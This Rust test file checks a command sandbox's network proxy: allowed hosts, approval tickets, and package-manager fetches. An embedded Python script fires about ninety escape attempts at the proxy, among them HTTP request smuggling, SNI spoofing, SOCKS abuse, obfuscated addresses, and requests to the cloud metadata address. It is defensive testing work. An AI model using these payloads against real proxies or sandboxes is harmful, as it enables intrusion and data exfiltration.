//! Hosts that commands reach by the proxy: what goes through, what is refused, and that there is no other way out.

use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex, PoisonError};
use std::thread;

use bailiwick::contract::{Caller, Transport};
use serde_json::{Value, json};

use crate::needs::{lacks_full_sandbox, lacks_program, require_program};
use support::scope::TestScope;
use support::service::TestService;

/// An address of this computer that programs do not take for their own loopback.
const ELSEWHERE: &str = "127.0.0.2";

/// Serves the files of a folder, and keeps what was asked for.
struct FileServer {
    port: u16,
    heads: Arc<Mutex<Vec<String>>>,
}

impl FileServer {
    fn new(address: &str, folder: PathBuf) -> Self {
        let listener = TcpListener::bind((address, 0)).expect("bound");
        let port = listener.local_addr().expect("bound").port();
        let heads = Arc::new(Mutex::new(Vec::new()));
        let (kept, folder) = (Arc::clone(&heads), Arc::new(folder));
        // It ends with the test's process.
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (kept, folder) = (Arc::clone(&kept), Arc::clone(&folder));
                thread::spawn(move || answer(stream, &kept, &folder));
            }
        });
        Self { port, heads }
    }

    fn heads(&self) -> Vec<String> {
        self.heads.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }
}

/// Answers one request after another, unless a request is for one alone.
fn answer(mut stream: TcpStream, heads: &Mutex<Vec<String>>, folder: &Path) {
    let (mut bytes, mut buffer, mut is_open) = (Vec::new(), [0; 4096], true);
    while is_open {
        let end = bytes.windows(4).position(|four| four == b"\r\n\r\n");
        let Some(end) = end else {
            match stream.read(&mut buffer) {
                Ok(length) if length > 0 => bytes.extend_from_slice(&buffer[..length]),
                Ok(_) | Err(_) => is_open = false,
            }
            continue;
        };
        let head: Vec<u8> = bytes.drain(..end + 4).collect();
        let head = String::from_utf8_lossy(&head).into_owned();
        is_open = !head.to_ascii_lowercase().contains("connection: close");
        answer_one(&mut stream, head, heads, folder);
    }
    // What is none is kept, too.
    if !bytes.is_empty() {
        let rest = String::from_utf8_lossy(&bytes).into_owned();
        heads.lock().unwrap_or_else(PoisonError::into_inner).push(rest);
    }
}

fn answer_one(stream: &mut TcpStream, head: String, heads: &Mutex<Vec<String>>, folder: &Path) {
    heads.lock().unwrap_or_else(PoisonError::into_inner).push(head.clone());
    let path = head.split(' ').nth(1).unwrap_or("/").split('?').next().unwrap_or("/").to_owned();
    let mut file = folder.join(path.trim_start_matches('/'));
    if file.is_dir() {
        file = file.join("index.html");
    }
    let (status, content) = match fs::read(&file) {
        Ok(content) => ("200 OK", content),
        Err(_) => ("404 Not Found", Vec::new()),
    };
    let kind = match file.extension().and_then(|it| it.to_str()) {
        Some("html") => "text/html",
        Some("json") => "application/json",
        _ => "application/octet-stream",
    };
    let length = content.len();
    let _ = write!(stream, "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {length}\r\n\r\n");
    if !head.starts_with("HEAD ") {
        let _ = stream.write_all(&content);
    }
}

fn host(hosts: &Value, commands: &[&str]) -> TestService {
    let network = json!({"hosts": hosts, "otherwise": "deny"});
    let policy = json!({"sandbox": "full", "network": network, "allowedCommands": commands});
    let capabilities = ["fs:read", "fs:write", "command:run", "process:manage", "history:read"];
    TestScope::new().with_capabilities(&capabilities).with_policy(policy).host()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_command_reaches_the_hosts_that_its_scope_names_and_is_told_how_others_are_allowed() {
    if lacks_full_sandbox() {
        return;
    }
    require_program("curl");
    let world = TestScope::new();
    world.write("file.txt", "from elsewhere\n");
    let server = FileServer::new(ELSEWHERE, world.root());
    let named = format!("{ELSEWHERE}:{}", server.port);
    let host = host(&json!([named]), &["curl *"]);
    let url = format!("http://{named}/file.txt");

    let reached = host.run(json!(["curl", "-sS", url])).await;
    assert_eq!(reached["stdout"], "from elsewhere\n", "{reached:#}");
    assert_eq!(reached["sandbox"]["level"], "full", "{reached:#}");
    assert_eq!(reached["sandbox"]["network"], "hosts", "{reached:#}");
    let uses = &reached["network"]["hosts"][0];
    assert_eq!((&uses["host"], &uses["connections"]), (&json!(named), &json!(1)), "{reached:#}");
    assert!(uses["receivedBytes"].as_u64() > Some(15), "{reached:#}");
    assert!(reached["network"].get("refused").is_none(), "{reached:#}");
    let last = host.send(json!({"scope": "app", "op": "history.last"})).await;
    assert!(last.to_string().contains(&format!("reached {named} (")), "{last:#}");

    // In a tunnel, too, and by SOCKS with the name resolved at the other end.
    let tunnelled = host.run(json!(["curl", "-sS", "--proxytunnel", url])).await;
    assert_eq!(tunnelled["stdout"], "from elsewhere\n", "{tunnelled:#}");

    let before = server.heads().len();
    let other = format!("127.0.0.3:{}", server.port);
    let answer = host.answer(json!(["curl", "-sS", format!("http://{other}/file.txt")]), json!({})).await;
    let allow = format!("bailiwick scope allow app --host '{other}'");
    let printed = answer["data"]["stdout"].as_str().expect("printed");
    assert!(printed.contains(&allow), "{answer:#}");
    assert_eq!(answer["data"]["network"]["refused"][0]["allowedBy"], json!(allow), "{answer:#}");
    assert!(answer["warnings"].to_string().contains(&allow), "{answer:#}");

    // Without the proxy there is no way.
    let direct = host.run(json!(["curl", "-sS", "--noproxy", "*", url])).await;
    assert_ne!(direct["exitCode"], 0, "{direct:#}");
    assert_eq!(direct["stdout"], "", "{direct:#}");
    assert_eq!(server.heads().len(), before, "nothing came");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_that_is_asked_about_opens_a_ticket_and_the_next_try_after_approval_succeeds() {
    if lacks_full_sandbox() {
        return;
    }
    require_program("curl");
    let world = TestScope::new();
    world.write("file.txt", "from elsewhere\n");
    let server = FileServer::new("127.0.0.1", world.root());
    // The name leads to an address that is not public, which an entry has to name.
    let network = json!({"hosts": [format!("127.0.0.1:{}", server.port)], "otherwise": "ask"});
    let policy = json!({"sandbox": "full", "network": network, "allowedCommands": ["curl *"]});
    let capabilities = ["fs:read", "command:run", "history:read"];
    let host = TestScope::new().with_capabilities(&capabilities).with_policy(policy).save().host();
    let fetch = |name: &str| {
        let url = format!("http://{name}:{}/file.txt", server.port);
        json!({"op": "command.run", "input": {"command": ["curl", "-sS", "--noproxy", "", url]}})
    };
    let refused = async |caller: &Caller, name: &str| -> Value {
        let answer = host.send_as(caller, fetch(name)).await;
        assert_eq!(answer["data"]["network"].get("hosts"), None, "{answer:#}");
        answer["data"]["network"]["refused"][0].clone()
    };
    let of = |session: &str| Caller { session: Some(session.to_owned()), ..Caller::local(Transport::Stdio) };
    let (one, two) = (of("one"), of("two"));
    let approve = |words: &[&str]| {
        let done = host.cli(&[&["approve"], words].concat());
        assert_eq!(done["ok"], true, "{done:#}");
    };

    let asked = refused(&one, "localhost").await;
    let id = asked["approvalId"].as_str().unwrap_or_else(|| panic!("{asked:#}")).to_owned();
    let allow = format!("bailiwick scope allow app --host localhost:{}", server.port);
    assert_eq!(asked["allowedBy"], format!("bailiwick scope allow app --host 'localhost:{}'", server.port));
    let listed = host.cli(&["approve", "--list"]);
    assert_eq!(listed["approvals"][0]["target"], format!("localhost:{}", server.port), "{listed:#}");
    assert_eq!(listed["approvals"][0]["always"], json!([allow]), "{listed:#}");
    assert_eq!(refused(&one, "localhost").await["approvalId"], id.as_str(), "it is one question");
    assert!(server.heads().is_empty(), "nothing came");

    approve(&[&id, "--once"]);
    let foreign = Caller { session: one.session.clone(), ..host.caller_with_token("foreign") };
    assert_ne!(refused(&foreign, "localhost").await["approvalId"], id.as_str(), "of another caller");
    let reached = host.send_as(&one, fetch("localhost")).await;
    assert_eq!(reached["data"]["stdout"], "from elsewhere\n", "{reached:#}");
    let again = refused(&one, "localhost").await;
    assert_ne!(again["approvalId"], id.as_str(), "a replay is a question of its own");

    let id = again["approvalId"].as_str().unwrap_or_else(|| panic!("{again:#}")).to_owned();
    approve(&[&id, "--session"]);
    for _ in 0..2 {
        let reached = host.send_as(&one, fetch("localhost")).await;
        assert_eq!(reached["data"]["stdout"], "from elsewhere\n", "{reached:#}");
    }
    let other = refused(&two, "localhost").await;
    let id = other["approvalId"].as_str().unwrap_or_else(|| panic!("{other:#}")).to_owned();
    approve(&["--deny", &id]);
    let denied = refused(&two, "localhost").await;
    assert!(denied["reason"].as_str().is_some_and(|it| it.contains("refused")), "{denied:#}");
    // An address that is not public is never asked about.
    let private = refused(&one, "127.0.0.9").await;
    assert!(private.get("approvalId").is_none(), "{private:#}");
    let before = server.heads().len();
    assert_eq!(before, 3, "{:?}", server.heads());
}

/// Tries every way out that a program could think of. Prints a line for each that was not refused.
const ATTACKS: &str = r##"
import ctypes, json, os, socket, struct, sys
allowed, port, abstract = sys.argv[1], int(sys.argv[2]), sys.argv[3]
proxy = ("127.0.0.1", int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1]))
TAG = b"ATTACK"
def talk(*parts):
    s = socket.create_connection(proxy, 60)
    for part in parts: s.sendall(part)
    s.shutdown(socket.SHUT_WR)
    got = b""
    while True:
        try: more = s.recv(65536)
        except ConnectionError: break
        if not more: break
        got += more
    s.close()
    return got
def tcp(family, address):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(60); s.connect(address); s.sendall(TAG); return s.recv(9)
def udp(family, address):
    s = socket.socket(family, socket.SOCK_DGRAM); s.sendto(TAG, address); s.settimeout(0); return b"sent"
def unix(name):
    s = socket.socket(socket.AF_UNIX); s.connect(name); s.sendall(TAG); return b"connected"
def raw(family, proto):
    return socket.socket(family, socket.SOCK_RAW, proto) and b"opened"
host = b"%s:%d" % (allowed.encode(), port)
other = b"127.0.0.3:%d" % port
def request(line, *fields, body=TAG): return b"\r\n".join([line, *fields, b"", b""]) + body
def connect(to): return request(b"CONNECT " + to + b" HTTP/1.1", b"Host: " + to, body=b"")
def http(field_lines, body=TAG): return request(b"POST http://" + host + b"/ATTACK HTTP/1.1", b"Host: " + host, *field_lines, body=body)
def hello(name, ech=False, twice=False):
    ext = b""
    if name is not None:
        entry = b"\0" + struct.pack(">H", len(name)) + name
        one = struct.pack(">HH", 0, len(entry) + 2) + struct.pack(">H", len(entry)) + entry
        ext += one * (2 if twice else 1)
    body = b"\3\3" + b"R" * 32 + b"\0" + b"\0\2\x13\1" + b"\1\0" + struct.pack(">H", len(ext)) + ext
    message = b"\1" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\3\1" + struct.pack(">H", len(message)) + message
plain = request(b"GET http://" + host + b"/file.txt HTTP/1.1", b"Host: " + host, body=b"")
tunnelled = request(b"GET /file.txt HTTP/1.1", b"Host: " + host, body=b"")
def behind(first, *parts, opening=b""):
    # The connection stays open behind the first answer, or the attack would be none.
    s = socket.create_connection(proxy, 60); f = s.makefile("rb")
    def answer():
        length, line = 0, f.readline()
        while line not in (b"\r\n", b""):
            if line.lower().startswith(b"content-length:"): length = int(line.split(b":")[1])
            assert not line.lower().startswith(b"connection:"), line
            line = f.readline()
        return f.read(length)
    if opening: s.sendall(opening); answer()
    for _ in range(2):
        s.sendall(first)
        if answer() != b"from elsewhere\n": return b"the first was refused"
    s.sendall(b"".join(parts)); s.shutdown(socket.SHUT_WR)
    return f.read()
def socks(kind, address, to=port, command=1):
    return b"\5\1\0" + bytes([5, command, 0, kind]) + address + struct.pack(">H", to) + TAG
attacks = {
    "raw address": lambda: tcp(socket.AF_INET, (allowed, port)),
    "raw address of another": lambda: tcp(socket.AF_INET, ("127.0.0.3", port)),
    "public address": lambda: tcp(socket.AF_INET, ("192.0.2.1", port)),
    "ipv6": lambda: tcp(socket.AF_INET6, ("2001:db8::1", port)),
    "ipv6 mapped": lambda: tcp(socket.AF_INET6, ("::ffff:" + allowed, port)),
    "metadata address": lambda: tcp(socket.AF_INET, ("169.254.169.254", 80)),
    "dns over udp": lambda: udp(socket.AF_INET, ("192.0.2.1", 53)),
    "dns over udp ipv6": lambda: udp(socket.AF_INET6, ("2001:db8::1", 53)),
    "dns over tcp": lambda: tcp(socket.AF_INET, ("192.0.2.1", 53)),
    "multicast": lambda: udp(socket.AF_INET, ("224.0.0.251", 5353)),
    "resolver": lambda: socket.getaddrinfo("attack.example", 80) and b"resolved",
    "raw socket": lambda: raw(socket.AF_INET, socket.IPPROTO_ICMP),
    "packet socket": lambda: raw(socket.AF_PACKET, 3),
    "vsock": lambda: tcp(socket.AF_VSOCK, (2, port)),
    "abstract socket": lambda: unix("\0" + abstract),
    "unix socket": lambda: unix(abstract),
    "connect other": lambda: talk(connect(other), TAG),
    "connect metadata": lambda: talk(connect(b"169.254.169.254:80"), TAG),
    "connect other port": lambda: talk(connect(allowed.encode() + b":1"), TAG),
    "connect decimal": lambda: talk(connect(b"2130706434:%d" % port), TAG),
    "connect hex": lambda: talk(connect(b"0x7f000002:%d" % port), TAG),
    "connect short": lambda: talk(connect(b"127.2:%d" % port), TAG),
    "connect octal": lambda: talk(connect(b"0177.0.0.2:%d" % port), TAG),
    "connect mapped other": lambda: talk(connect(b"[::ffff:127.0.0.3]:%d" % port), TAG),
    "connect ipv6 loopback": lambda: talk(connect(b"[::1]:%d" % port), TAG),
    "connect user": lambda: talk(connect(b"a@" + host), TAG),
    "connect no port": lambda: talk(connect(allowed.encode()), TAG),
    "connect port zero": lambda: talk(connect(allowed.encode() + b":0"), TAG),
    "connect plus port": lambda: talk(connect(allowed.encode() + b":+%d" % port), TAG),
    "connect path": lambda: talk(request(b"CONNECT http://" + host + b"/ HTTP/1.1", b"Host: " + host)),
    "connect other host field": lambda: talk(request(b"CONNECT " + host + b" HTTP/1.1", b"Host: " + other)),
    "connect body": lambda: talk(request(b"CONNECT " + host + b" HTTP/1.1", b"Host: " + host, b"Content-Length: 6")),
    "tunnel other sni": lambda: talk(connect(host), hello(b"attack.example"), TAG),
    "tunnel two sni": lambda: talk(connect(host), hello(b"attack.example", twice=True), TAG),
    "tunnel cut greeting": lambda: talk(connect(host), hello(b"attack.example")[:20]),
    "tunnel false greeting": lambda: talk(connect(host), b"\x16\3\1\0\6" + TAG),
    "tunnel long record": lambda: talk(connect(host), b"\x16\3\1\xff\xff" + TAG),
    "tunnel other host": lambda: talk(connect(host), request(b"GET /ATTACK HTTP/1.1", b"Host: " + other)),
    "tunnel no host": lambda: talk(connect(host), request(b"GET /ATTACK HTTP/1.1", b"A: b")),
    "tunnel two hosts": lambda: talk(connect(host), request(b"GET /ATTACK HTTP/1.1", b"Host: " + host, b"Host: " + other)),
    "tunnel in tunnel": lambda: talk(connect(host), connect(other), TAG),
    "tunnel http2": lambda: talk(connect(host), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + TAG),
    "http other": lambda: talk(request(b"POST http://" + other + b"/ATTACK HTTP/1.1", b"Host: " + other)),
    "http other host field": lambda: talk(request(b"POST http://" + host + b"/ATTACK HTTP/1.1", b"Host: " + other)),
    "http two hosts": lambda: talk(http([b"Host: " + host])),
    "http user": lambda: talk(request(b"GET http://" + other + b"@" + host + b"/ATTACK HTTP/1.1", b"Host: " + host)),
    "http user before": lambda: talk(request(b"GET http://" + host + b"@" + other + b"/ATTACK HTTP/1.1", b"Host: " + host)),
    "http backslash": lambda: talk(request(b"GET http://" + host + b"\\@" + other + b"/ATTACK HTTP/1.1", b"Host: " + host)),
    "http fragment": lambda: talk(request(b"GET http://" + host + b"#@" + other + b"/ATTACK HTTP/1.1", b"Host: " + host)),
    "https without a tunnel": lambda: talk(request(b"GET https://" + host + b"/ATTACK HTTP/1.1", b"Host: " + host)),
    "ftp": lambda: talk(request(b"GET ftp://" + host + b"/ATTACK HTTP/1.1", b"Host: " + host)),
    "path alone": lambda: talk(request(b"GET /ATTACK HTTP/1.1", b"Host: " + host)),
    "length and chunks": lambda: talk(http([b"Content-Length: 6", b"Transfer-Encoding: chunked"])),
    "two lengths": lambda: talk(http([b"Content-Length: 6", b"Content-Length: 0"])),
    "length list": lambda: talk(http([b"Content-Length: 6, 6"])),
    "signed length": lambda: talk(http([b"Content-Length: +6"])),
    "odd coding": lambda: talk(http([b"Transfer-Encoding: xchunked"])),
    "two codings": lambda: talk(http([b"Transfer-Encoding: identity, chunked"])),
    "blank before colon": lambda: talk(http([b"Transfer-Encoding : chunked"])),
    "folded line": lambda: talk(http([b"A: b", b" Transfer-Encoding: chunked"])),
    "bare line feed": lambda: talk(http([b"A: b\nTransfer-Encoding: chunked"])),
    "bare carriage return": lambda: talk(http([b"A: b\rTransfer-Encoding: chunked"])),
    "nul": lambda: talk(http([b"A: b\0c"])),
    "upgrade": lambda: talk(http([b"Connection: Upgrade", b"Upgrade: h2c"])),
    "websocket": lambda: talk(request(b"GET http://" + host + b"/ATTACK HTTP/1.1", b"Host: " + host, b"Connection: Upgrade", b"Upgrade: websocket")),
    "old version": lambda: talk(request(b"GET http://" + host + b"/ATTACK HTTP/0.9", b"Host: " + host)),
    "blank target": lambda: talk(request(b"GET http://" + host + b"/ATTACK HTTP/1.1 HTTP/1.1", b"Host: " + host)),
    "long field": lambda: talk(http([b"A: " + b"b" * 70000])),
    "many fields": lambda: talk(http([b"A: b"] * 500)),
    "kept other": lambda: behind(plain, request(b"GET http://" + other + b"/ATTACK HTTP/1.1", b"Host: " + other)),
    "kept other host field": lambda: behind(plain, request(b"GET http://" + host + b"/ATTACK HTTP/1.1", b"Host: " + other)),
    "kept two hosts": lambda: behind(plain, request(b"GET http://" + host + b"/ATTACK HTTP/1.1", b"Host: " + host, b"Host: " + other)),
    "kept path alone": lambda: behind(plain, request(b"GET /ATTACK HTTP/1.1", b"Host: " + host)),
    "kept connect": lambda: behind(plain, connect(other), TAG),
    "kept bare line feed": lambda: behind(plain, request(b"GET http://" + host + b"/ATTACK HTTP/1.1", b"Host: " + host, b"A: b\nC: d")),
    "kept length and chunks": lambda: behind(plain, http([b"Content-Length: 6", b"Transfer-Encoding: chunked"])),
    "kept no request": lambda: behind(plain, TAG, b"\r\n\r\n"),
    "kept tunnel other host": lambda: behind(tunnelled, request(b"GET /ATTACK HTTP/1.1", b"Host: " + other), opening=connect(host)),
    "kept tunnel no host": lambda: behind(tunnelled, request(b"GET /ATTACK HTTP/1.1", b"A: b"), opening=connect(host)),
    "kept tunnel in tunnel": lambda: behind(tunnelled, connect(other), TAG, opening=connect(host)),
    "kept tunnel no http": lambda: behind(tunnelled, hello(b"attack.example"), TAG, opening=connect(host)),
    "socks other": lambda: talk(socks(1, socket.inet_aton("127.0.0.3"))),
    "socks ipv6": lambda: talk(socks(4, socket.inet_pton(socket.AF_INET6, "::1"))),
    "socks name": lambda: talk(socks(3, b"\x0eattack.example")),
    "socks bad name": lambda: talk(socks(3, b"\x03a/b")),
    "socks port": lambda: talk(socks(1, socket.inet_aton(allowed), 1)),
    "socks bind": lambda: talk(socks(1, socket.inet_aton(allowed), command=2)),
    "socks udp": lambda: talk(socks(1, socket.inet_aton(allowed), command=3)),
    "socks login": lambda: talk(b"\5\1\2" + TAG),
    "socks 4": lambda: talk(b"\4\1" + struct.pack(">H", port) + socket.inet_aton(allowed) + b"\0" + TAG),
}
REFUSED = (b"HTTP/1.1 4", b"HTTP/1.1 5", b"HTTP/1.1 200 Connection established\r\n\r\n", b"\5\0\5\2", b"\5\0\5\4", b"\5\0\5\7", b"\5\xff")
for name, attack in attacks.items():
    try: got = attack()
    except OSError as error: continue
    if got and not got.startswith(REFUSED): print("OPEN", name, got[:80])
print(len(attacks), "tried")
"##;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_gets_out_past_the_proxy_or_by_it() {
    if lacks_full_sandbox() {
        return;
    }
    require_program("python3");
    let world = TestScope::new();
    world.write("file.txt", "from elsewhere\n");
    let server = FileServer::new(ELSEWHERE, world.root());
    // At the same port, where nothing is allowed.
    let other = TcpListener::bind(("127.0.0.3", server.port)).expect("bound");
    other.set_nonblocking(true).expect("set");
    let abstract_name = format!("bailiwick-{}", world.word);
    let listener = local_socket(&abstract_name);
    let host = host(&json!([format!("{ELSEWHERE}:{}", server.port)]), &["python3 *"]);
    host.write("attack.py", ATTACKS);
    let words = json!(["python3", "attack.py", ELSEWHERE, server.port.to_string(), abstract_name]);
    let data = host.run(words).await;
    assert_eq!(data["exitCode"], 0, "{data:#}");
    let printed = data["stdout"].as_str().expect("printed");
    assert!(printed.ends_with("tried\n") && !printed.contains("OPEN"), "{printed}");
    // Each attack behind another request has two of these before it.
    let first = server.heads().into_iter().filter(|head| head.starts_with("GET /file.txt ")).count();
    assert_eq!(first, 24);
    let sent: Vec<String> = server.heads().into_iter().filter(|head| head.contains("ATTACK")).collect();
    assert!(sent.is_empty(), "{sent:#?}");
    assert!(other.accept().is_err(), "nothing connected where nothing is allowed");
    assert!(listener.accept().is_err(), "nothing connected to the computer's abstract socket");
    // What is sent to the host itself arrives, so that the above is no silence of its own.
    let plain = "import os,urllib.request as u,sys; print(u.urlopen(sys.argv[1]).status)";
    let url = format!("http://{ELSEWHERE}:{}/attack.py", server.port);
    host.write("plain.py", plain);
    fs::write(world.path("attack.py"), "x").expect("written");
    let data = host.run(json!(["python3", "plain.py", url])).await;
    assert_eq!(data["stdout"], "200\n", "{data:#}");
}

fn local_socket(name: &str) -> std::os::unix::net::UnixListener {
    use std::os::linux::net::SocketAddrExt;
    let address = std::os::unix::net::SocketAddr::from_abstract_name(name).expect("a name");
    let listener = std::os::unix::net::UnixListener::bind_addr(&address).expect("bound");
    listener.set_nonblocking(true).expect("set");
    listener
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_is_started_keeps_its_ports_and_its_proxy_and_other_callers_reach_neither() {
    if lacks_full_sandbox() {
        return;
    }
    require_program("curl");
    require_program("python3");
    let world = TestScope::new();
    world.write("file.txt", "from elsewhere\n");
    let server = FileServer::new(ELSEWHERE, world.root());
    let named = format!("{ELSEWHERE}:{}", server.port);
    let host = host(&json!([named]), &["curl *", "python3 *"]);
    // Prints where its proxy is, asks once, and serves its folder.
    host.write(
        "serve.py",
        "import os, sys, http.server as h, urllib.request as u\n\
         print(os.environ['HTTP_PROXY'], u.urlopen(sys.argv[1]).status, flush=True)\n\
         h.test(h.SimpleHTTPRequestHandler, h.ThreadingHTTPServer, bind='127.0.0.1', port=8000)\n",
    );
    host.write("mine.txt", "mine\n");
    let process = host.start(json!(["python3", "serve.py", format!("http://{named}/file.txt")])).await;
    let listens = json!({"any": [{"until": "http", "port": 8000, "path": "/mine.txt"}, {"until": "exit"}]});
    let data = host.data(json!({"op": "process.wait", "target": process, "input": listens})).await;
    assert_eq!(data["conditions"][0]["status"], 200, "{data:#}");
    let log = host.read(&process, json!({})).await;
    let printed = log["stdout"].as_str().expect("printed");
    let (proxy, status) = printed.trim().split_once(' ').expect("both");
    assert_eq!(status, "200", "{log:#}");
    assert_eq!(log["network"]["hosts"][0]["host"], json!(named), "{log:#}");
    let mine = host.run(json!(["curl", "-sS", "http://127.0.0.1:8000/mine.txt"])).await;
    assert_eq!(mine["stdout"], "mine\n", "{mine:#}");
    // Another caller has another network, where nothing listens at either port.
    let other = host.caller_with_token("other");
    for words in [
        json!(["curl", "-sS", "http://127.0.0.1:8000/mine.txt"]),
        json!(["curl", "-sS", "--noproxy", "", "-x", proxy, format!("http://{named}/file.txt")]),
    ] {
        let envelope = json!({"scope": "app", "op": "command.run", "input": {"command": words}});
        let answer = host.send_as(&other, envelope).await;
        assert_eq!(answer["data"]["stdout"], "", "{answer:#}");
        assert_ne!(answer["data"]["exitCode"], 0, "{answer:#}");
    }
    host.stop(&process, json!({"graceSeconds": 0})).await;
}

/// Makes a package for pip and one for npm, each with the page of a registry, in the folder of its first argument. The
/// second is the registry's address.
const REGISTRIES: &str = r#"
import hashlib, base64, io, json, os, sys, tarfile, zipfile
folder, url = sys.argv[1:]
os.makedirs(folder + "/simple/demo")
with zipfile.ZipFile(folder + "/demo-1.0-py3-none-any.whl", "w") as wheel:
    wheel.writestr("demo.py", "said = 'by pip'\n")
    wheel.writestr("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")
    wheel.writestr("demo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    wheel.writestr("demo-1.0.dist-info/RECORD", "demo.py,,\ndemo-1.0.dist-info/METADATA,,\ndemo-1.0.dist-info/WHEEL,,\ndemo-1.0.dist-info/RECORD,,\n")
with open(folder + "/simple/demo/index.html", "w") as page:
    page.write("<!DOCTYPE html><html><body><a href='" + url + "/demo-1.0-py3-none-any.whl'>demo-1.0-py3-none-any.whl</a></body></html>")
with tarfile.open(folder + "/demo-1.0.0.tgz", "w:gz") as package:
    for name, text in [("package.json", json.dumps({"name": "demo", "version": "1.0.0"})), ("index.js", "module.exports = 'by npm'\n")]:
        entry = tarfile.TarInfo("package/" + name)
        entry.size = len(text)
        package.addfile(entry, io.BytesIO(text.encode()))
content = open(folder + "/demo-1.0.0.tgz", "rb").read()
dist = {"tarball": url + "/demo-1.0.0.tgz", "integrity": "sha512-" + base64.b64encode(hashlib.sha512(content).digest()).decode()}
version = {"name": "demo", "version": "1.0.0", "dist": dist}
json.dump({"name": "demo", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}, open(folder + "/demo", "w"))
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn package_managers_and_git_fetch_by_the_proxy() {
    if lacks_full_sandbox() {
        return;
    }
    require_program("python3");
    let world = TestScope::new();
    let served = world.beside("served");
    fs::create_dir(&served).expect("made");
    let server = FileServer::new(ELSEWHERE, served.clone());
    let named = format!("{ELSEWHERE}:{}", server.port);
    let url = format!("http://{named}");
    run_here("python3", &["-c", REGISTRIES, &served.display().to_string(), &url], &served);
    let host = host(&json!([named]), &["pip *", "npm *", "git *", "python3 *", "node *"]);
    let mut fetched = Vec::new();
    if !lacks_program("pip") {
        let words = ["pip", "install", "--no-deps", "--target", "out", "--index-url"];
        let trusted = ["--trusted-host", ELSEWHERE, "demo"];
        let index = format!("{url}/simple/");
        let words: Vec<&str> = words.into_iter().chain([index.as_str()]).chain(trusted).collect();
        fetched.push(host.run(json!(words)).await);
        assert_eq!(fs::read_to_string(host.path("out/demo.py")).expect("installed"), "said = 'by pip'\n");
    }
    if !lacks_program("npm") {
        let words =
            ["npm", "install", "--no-audit", "--no-fund", "--prefix", ".", "--registry", &url, "demo"];
        let data = host.run(json!(words)).await;
        let installed = fs::read_to_string(host.path("node_modules/demo/index.js"));
        assert_eq!(
            installed.unwrap_or_else(|error| panic!("{error}: {data:#}")),
            "module.exports = 'by npm'\n"
        );
        fetched.push(data);
    }
    if !lacks_program("git") {
        run_here("git", &["init", "-q", "-b", "main", "made"], &served);
        let made = served.join("made");
        fs::write(made.join("file.txt"), "by git\n").expect("written");
        run_here("git", &["add", "."], &made);
        let who = ["-c", "user.name=a", "-c", "user.email=a@b.test"];
        run_here("git", &[&who[..], &["commit", "-q", "-m", "one"]].concat(), &made);
        run_here("git", &["clone", "-q", "--bare", "made", "made.git"], &served);
        run_here("git", &["update-server-info"], &served.join("made.git"));
        let data = host.run(json!(["git", "clone", "-q", format!("{url}/made.git"), "cloned"])).await;
        let cloned = fs::read_to_string(host.path("cloned/file.txt"));
        assert_eq!(cloned.unwrap_or_else(|error| panic!("{error}: {data:#}")), "by git\n");
        fetched.push(data);
    }
    for data in fetched {
        assert_eq!(data["exitCode"], 0, "{data:#}");
        assert_eq!(data["network"]["hosts"][0]["host"], json!(named), "{data:#}");
    }
}

/// Runs a program of the test's own, outside of any sandbox.
fn run_here(program: &str, words: &[&str], folder: &Path) {
    let status = std::process::Command::new(program)
        .args(words)
        .current_dir(folder)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .status()
        .expect("it starts");
    assert!(status.success(), "{program} {words:?}");
}

#[test]
fn the_command_line_names_hosts_and_takes_them_away() {
    let world = TestScope::new().save();
    let network = || world.cli(&["scope", "show", "app"])["scope"]["policy"]["network"].clone();
    world.cli(&["scope", "allow", "app", "--host", "GitHub.com", "--host", "*.example.org:8443"]);
    assert_eq!(network(), json!({"hosts": ["github.com", "*.example.org:8443"], "otherwise": "deny"}));
    world.cli(&["scope", "allow", "app", "--package-registries"]);
    assert!(network()["hosts"].to_string().contains("registry.npmjs.org"), "{}", network());
    let dry = world.cli(&["scope", "deny", "app", "--host", "github.com", "--dry-run"]);
    assert!(dry.to_string().contains("lets commands reach github.com"), "{dry}");
    world.cli(&["scope", "deny", "app", "--host", "github.com"]);
    assert!(!network().to_string().contains("github.com"), "{}", network());
    for (words, said) in [
        (&["scope", "deny", "app", "--host", "github.com"][..], "does not name the host"),
        (&["scope", "allow", "app", "--host", "https://a.test"], "it is a URL"),
        (&["scope", "edit", "app", "--sandbox", "none"], "full sandbox only"),
    ] {
        let before = network();
        let output = world.command(words).output().expect("it runs");
        let printed = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(!output.status.success() && printed.contains(said), "{words:?}: {printed}");
        assert_eq!(network(), before, "{words:?}");
    }
    world.cli(&["scope", "edit", "app", "--network", "full"]);
    let output = world.command(&["scope", "allow", "app", "--host", "a.test"]).output().expect("it runs");
    let printed = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(
        printed.contains("reach the whole network") && printed.contains("--network loopback"),
        "{printed}"
    );
    assert_eq!(network(), "full");
}
